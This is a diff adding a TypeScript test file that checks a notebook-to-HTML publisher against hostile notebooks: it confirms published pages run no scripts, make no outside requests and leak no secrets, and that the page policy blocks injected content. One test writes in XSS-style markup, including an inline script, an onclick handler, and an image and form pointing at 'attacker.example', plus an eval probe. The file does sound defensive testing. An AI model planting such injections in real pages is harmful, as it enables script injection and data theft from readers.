@@ -1,0 +1,209 @@
+import { mkdtempSync, readFileSync, readdirSync, rmSync, writeFileSync } from "node:fs";
+import { tmpdir } from "node:os";
+import { basename, join } from "node:path";
+import { pathToFileURL } from "node:url";
+import type { Browser } from "playwright-core";
+import { afterAll, beforeAll, describe, expect, it } from "vitest";
+import { readNotebook } from "../../src/node/notebook/readNotebook.js";
+import { publish } from "../../src/node/publish/publish.js";
+import { openBrowser } from "./openBrowser.js";
+
+const folder = join(import.meta.dirname, "..", "fixtures", "hostile");
+const notebooks = readdirSync(folder).filter((name) => name.endsWith(".ipynb"));
+const secret = "the-word-that-must-not-travel";
+
+let browser: Browser;
+let output: string;
+beforeAll(async () => {
+  browser = await openBrowser();
+  output = mkdtempSync(join(tmpdir(), "lossbook-hostile-"));
+});
+afterAll(async () => {
+  await browser?.close();
+  rmSync(output, { recursive: true, force: true });
+});
+
+/** Publishes one notebook, as the command does; a refusal is an error of one line. */
+async function published(path: string, own: boolean): Promise<string | Error> {
+  const target = mkdtempSync(join(output, "page-"));
+  const before = readdirSync(output).length;
+  try {
+    const { bytes, notebook } = readNotebook(path, { repairIds: true });
+    await publish([{ path, bytes, json: notebook, ...(own ? { executed: new Date(0) } : {}) }], {
+      output: target,
+      project: folder,
+    });
+  } catch (error) {
+    return error as Error;
+  }
+  expect(readdirSync(output).length, "nothing is written outside the site").toBe(before);
+  expect(readdirSync(target).filter((name) => !/^(?:index\.html|assets)$/.test(name))).toEqual([
+    basename(path).replace(".ipynb", ".html"),
+  ]);
+  return join(target, basename(path).replace(".ipynb", ".html"));
+}
+
+/** Opens a page with the network watched, waits for its scripts, moves over it, and tells what it did. */
+async function visit(file: string) {
+  const context = await browser.newContext({
+    offline: true,
+    viewport: { width: 1000, height: 900 },
+  });
+  const page = await context.newPage();
+  const requests: string[] = [];
+  const messages: string[] = [];
+  let dialogs = 0;
+  context.on("request", (request) => requests.push(request.url()));
+  page.on("console", (message) => {
+    if (message.type() === "error") messages.push(message.text());
+  });
+  page.on("pageerror", (error) => messages.push(error.message));
+  page.on("dialog", (dialog) => {
+    dialogs++;
+    void dialog.dismiss();
+  });
+  const url = pathToFileURL(file).href;
+  await page.goto(url);
+  await page.waitForTimeout(150);
+  const state = await page.evaluate(() => ({
+    pwned: "pwned" in window,
+    polluted: "polluted" in {},
+    scripts: [...document.scripts].filter(
+      (script) => script.type !== "application/json" && script.type !== "text/plain",
+    ).length,
+    handlers: [...document.querySelectorAll("body *")].filter((element) =>
+      [...element.attributes].some((attribute) => /^on/i.test(attribute.name)),
+    ).length,
+    forms: document.querySelectorAll("form, iframe, object, embed, base").length,
+    refresh: document.querySelectorAll("meta[http-equiv=refresh i]").length,
+    badLinks: [...document.querySelectorAll("a[href]")]
+      .map((link) => link.getAttribute("href")!.trim())
+      .filter((href) => /^[a-z]+:/i.test(href) && !/^(?:https?|mailto):/i.test(href)),
+    sideways: document.documentElement.scrollWidth > innerWidth,
+    theme: document.querySelectorAll(".themes input").length,
+  }));
+  const stayed = page.url() === url;
+  await context.close();
+  return {
+    ...state,
+    stayed,
+    dialogs,
+    messages,
+    foreignRequests: requests.filter(
+      (request) =>
+        !request.startsWith("data:") &&
+        !request.startsWith("blob:") &&
+        request !== url &&
+        !(
+          request.startsWith(url.slice(0, url.lastIndexOf("/"))) &&
+          /\/assets\/[\w-]+\.(?:js|css)$/.test(request)
+        ),
+    ),
+  };
+}
+
+describe.each([
+  ["foreign", false],
+  ["own run", true],
+] as const)("a hostile notebook as a page of a %s", (_, own) => {
+  it.each(notebooks)("%s runs nothing, asks nothing, reads nothing", async (name) => {
+    const result = await published(join(folder, name), own);
+    if (result instanceof Error) {
+      expect(result.message).toMatch(/notebook/);
+      expect(result.message).not.toContain("\n");
+      return;
+    }
+    const text = readFileSync(result, "utf8");
+    expect(text).not.toContain(secret);
+    expect(text).not.toContain("root:x:0:0");
+    expect(text, "no path of this machine").not.toContain(folder);
+    const seen = await visit(result);
+    expect(seen).toMatchObject({
+      pwned: false,
+      polluted: false,
+      handlers: 0,
+      forms: 0,
+      refresh: 0,
+      badLinks: [],
+      stayed: true,
+      dialogs: 0,
+      messages: [],
+      foreignRequests: [],
+      sideways: false,
+      // The reader's own script ran: three themes to choose from.
+      theme: 3,
+    });
+    // The theme's script, the reader's, and plotly.js where there is a figure.
+    expect(seen.scripts).toBeLessThanOrEqual(3);
+  });
+});
+
+it("publishes at least 60 hostile notebooks and refuses only what is no notebook", async () => {
+  expect(notebooks.length).toBeGreaterThanOrEqual(60);
+  const refused: string[] = [];
+  for (const name of notebooks)
+    try {
+      readNotebook(join(folder, name), { repairIds: true });
+    } catch {
+      refused.push(name);
+    }
+  expect(refused.sort()).toEqual([
+    "cells-of-wrong-kind.ipynb",
+    "not-a-notebook.ipynb",
+    "not-json.ipynb",
+    "wrong-format.ipynb",
+  ]);
+});
+
+describe.each([
+  ["foreign", false],
+  ["own run", true],
+] as const)("the policy of a %s page", (_, own) => {
+  it("blocks what the sanitiser would have let through", async () => {
+    const file = (await published(join(folder, "markdown-heading-title.ipynb"), own)) as string;
+    // What a hole in the sanitiser would leave behind, put into the finished page.
+    const holes =
+      `<script>window.pwned="script"</script><p id="n-click" onclick="window.pwned='onclick'">click</p>` +
+      `<img src="https://attacker.example/i.png"><form id="n-form" action="https://attacker.example/f"><button id="n-send">send</button></form>` +
+      `<script type="application/json" id="n-eval"></script>`;
+    writeFileSync(file, readFileSync(file, "utf8").replace("</article>", `${holes}</article>`));
+    const context = await browser.newContext();
+    const requests: string[] = [];
+    await context.route(/^https?:/, (route) => {
+      requests.push(route.request().url());
+      return route.abort();
+    });
+    const page = await context.newPage();
+    const violations: string[] = [];
+    page.on("console", (message) => {
+      if (message.type() === "error") violations.push(message.text());
+    });
+    await page.goto(pathToFileURL(file).href);
+    await page.click("#n-click");
+    await page.click("#n-send");
+    await page.waitForTimeout(100);
+    expect(await page.evaluate(() => (window as { pwned?: string }).pwned)).toBeUndefined();
+    expect(requests).toEqual([]);
+    for (const directive of ["script-src", "img-src", "form-action"])
+      expect(violations.join("\n")).toContain(directive);
+    await context.close();
+  });
+
+  it("blocks eval in the page", async () => {
+    const file = (await published(join(folder, "markdown-bidi.ipynb"), own)) as string;
+    const text = readFileSync(file, "utf8");
+    // A script that the policy admits by its hash, which then tries to evaluate: `evaluate` of the driver would pass.
+    const probe = `try{eval("document.documentElement.dataset.evaluated='yes'")}catch(e){document.documentElement.dataset.evaluated=e.name}`;
+    const { policyHash } = await import("../../src/node/publish/contentHash.js");
+    const admitted = text
+      .replace("script-src ", `script-src &#39;${policyHash(probe)}&#39; `)
+      .replace("</article>", `<script>${probe}</script></article>`);
+    writeFileSync(file, admitted);
+    const page = await browser.newPage();
+    await page.goto(pathToFileURL(file).href);
+    expect(await page.evaluate(() => document.documentElement.dataset["evaluated"])).toBe(
+      "EvalError",
+    );
+    await page.close();
+  });
+});
